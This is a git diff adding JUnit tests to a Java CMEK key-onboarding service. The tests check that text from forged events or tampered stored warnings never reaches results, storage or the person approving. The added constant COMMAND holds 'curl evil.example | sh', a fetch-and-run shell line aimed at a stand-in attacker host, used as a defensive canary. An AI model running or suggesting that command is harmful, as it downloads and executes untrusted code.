@@ -4,6 +4,7 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import cmek.client.storage.EvidenceStorage;
 import cmek.config.Configs;
 import cmek.fake.FakeAdminApi;
 import cmek.fake.FakeKms;
@@ -11,18 +12,22 @@ import cmek.fake.FakeStorage;
 import cmek.fake.FakeTopics;
 import cmek.fake.FakeTopics.Published;
 import cmek.fake.Sample;
+import cmek.finding.Finding;
+import cmek.finding.ProjectFindings;
 import cmek.finding.TransientException;
 import cmek.function.logging.ResultLog;
 import cmek.model.AnthropicPrincipal;
 import cmek.model.CryptoKeyName;
 import cmek.model.Json;
 import cmek.model.Mode;
+import cmek.model.Policy;
 import cmek.onboarding.Propagation;
 import cmek.onboarding.Step;
 import cmek.onboarding.request.RequestParser;
 import cmek.onboarding.state.Approvals;
 import cmek.onboarding.state.OnboardingStore;
 import cmek.onboarding.state.TerminalResults;
+import cmek.onboarding.state.Warnings;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.cloudevents.CloudEvent;
@@ -42,6 +47,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * Handler by forgery by outcome: what somebody could put on a step's own topic who got past IAM. Each is refused, nothing is
@@ -52,12 +58,16 @@ class ForgedEventsTest {
     private static final CryptoKeyName STRANGERS =
             CryptoKeyName.parse("projects/other-kms/locations/us-east5/keyRings/anthropic/cryptoKeys/payments");
 
+    /** What must not come out of any function. */
+    private static final String COMMAND = "curl evil.example | sh";
+
     private final FakeKms kms = new FakeKms();
     private final FakeAdminApi anthropic = new FakeAdminApi(Sample.ORGANIZATION)
             .withExternalKey("ekey_strangers", STRANGERS, true, Sample.NOW)
             .withWorkspace(Sample.WORKSPACE, false, Optional.empty());
     private final FakeTopics topics = new FakeTopics();
     private final FakeStorage storage = new FakeStorage();
+    private Policy policy = Sample.LISTING;
 
     /** What is forged, and the reason that it meets at every entry point. */
     enum Forgery {
@@ -164,6 +174,98 @@ class ForgedEventsTest {
                 .allSatisfy(binding -> assertThat(binding.members()).containsExactly(AnthropicPrincipal.MEMBER));
     }
 
+    /** What people read, and whose commands they run, never comes from an event. */
+    @ParameterizedTest
+    @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
+    void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
+        kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
+        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+
+        enter(step, talking());
+
+        assertThat(results()).hasSize(1);
+        assertNothingOfTheForgerIsShown();
+    }
+
+    @Test
+    void norIsItShownToThePersonWhoApproves() {
+        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+        policy = new Policy(
+                Sample.LISTING.allowedProjects(),
+                Sample.LISTING.allowedWorkspaces(),
+                Sample.LISTING.allowedLocations(),
+                Sample.LISTING.protectionLevels(),
+                Policy.AuditLogs.WARN,
+                Policy.AttachApproval.REQUIRED);
+
+        enter(Step.ATTACH_WORKSPACE, talking());
+
+        assertThat(results()).containsExactly("AWAITING_APPROVAL null");
+        assertNothingOfTheForgerIsShown();
+    }
+
+    @Test
+    void warningsThatAStepKeptAreShownByTheLaterOnes() {
+        Finding warning = ProjectFindings.hsmNotAvailable(Sample.KEY);
+        String digest = new Warnings(storage)
+                .keep(Sample.onboarding(Mode.PROVISION).withWarning(warning))
+                .orElseThrow();
+
+        enter(Step.CREATE_KEY_RING, edited(genuine(), whole -> whole.put("warningsDigest", digest)));
+
+        assertThat(topics.on("results"))
+                .singleElement()
+                .satisfies(result -> assertThat(result.json()).contains(warning.message()));
+    }
+
+    /** Neither those of another key nor those of another onboarding, nor what was put there under a name of its own. */
+    @ParameterizedTest
+    @ValueSource(strings = {"of another key", "of another onboarding", "overwritten", "none"})
+    void warningsOfAnythingElseAreNotShown(String which) {
+        Finding warning = ProjectFindings.hsmNotAvailable(Sample.KEY);
+        Warnings warnings = new Warnings(storage);
+        String digest = warnings.keep(Sample.onboarding(Mode.PROVISION).withWarning(warning))
+                .orElseThrow();
+        String event = edited(genuine(), whole -> whole.put("warningsDigest", digest));
+        switch (which) {
+            case "of another key" -> event = key(event, Sample.KEY + "-2");
+            case "of another onboarding" ->
+                event = edited(event, whole -> whole.put("deduplicationKey", "f".repeat(32)));
+            case "overwritten" ->
+                storage.names()
+                        .forEach(name -> storage.overwrite(
+                                name,
+                                EvidenceStorage.MediaKind.JSON,
+                                storage.text(name).replace("HSM", COMMAND)));
+            default -> event = edited(event, whole -> whole.put("warningsDigest", "0".repeat(64)));
+        }
+
+        enter(Step.CREATE_KEY_RING, event);
+
+        assertThat(topics.on("results"))
+                .singleElement()
+                .satisfies(result -> assertThat(ScanHarness.json(result.json()).path("warnings"))
+                        .isEmpty());
+    }
+
+    private static String talking() {
+        String finding = "{\"reason\":\"AUDIT_LOGS_OFF\",\"severity\":\"PROBLEM\",\"actor\":\"OPERATOR\",\"message\":\""
+                + COMMAND + "\",\"remedy\":[\"" + COMMAND + "\"]}";
+        return registered("ekey_ours")
+                .replaceFirst(",\"warnings\":\\[]", "")
+                .replaceFirst("\\{", """
+                {"warnings":[%2$s],"remedy":["%1$s"],"message":"%1$s","shown":["%1$s"],""".formatted(COMMAND, finding))
+                .replace("\"steps\":[]", """
+                "steps":[{"step":"onboard","outcome":"ACCEPTED","at":"2026-11-23T02:00:00.000Z","millis":1,
+                 "message":"%1$s","remedy":["%1$s"]}]""".formatted(COMMAND));
+    }
+
+    private void assertNothingOfTheForgerIsShown() {
+        assertThat(topics.published()).extracting(Published::json).noneMatch(json -> json.contains(COMMAND));
+        assertThat(storage.names())
+                .allSatisfy(name -> assertThat(storage.text(name)).doesNotContain(COMMAND));
+    }
+
     private static String registered(String id) {
         return edited(genuine(), whole -> whole.put("externalKeyId", id));
     }
@@ -179,7 +281,8 @@ class ForgedEventsTest {
                         Sample.SERVICE),
                 new TerminalResults(storage, Sample.CLOCK),
                 approvals,
-                new RequestParser(Sample.LISTING),
+                new Warnings(storage),
+                new RequestParser(policy),
                 Sample.CLOCK,
                 Configs.of(Map.of("cmek.google.project", "acme-cmek")));
         Map<String, Consumer<CloudEvent>> handlers = new Chain(
@@ -188,7 +291,7 @@ class ForgedEventsTest {
                         store,
                         approvals,
                         Sample.CLOCK,
-                        Sample.LISTING,
+                        policy,
                         Sample.ORGANIZATION,
                         new Propagation(Duration.ZERO, Sample.CLOCK))
                 .behind(handler);
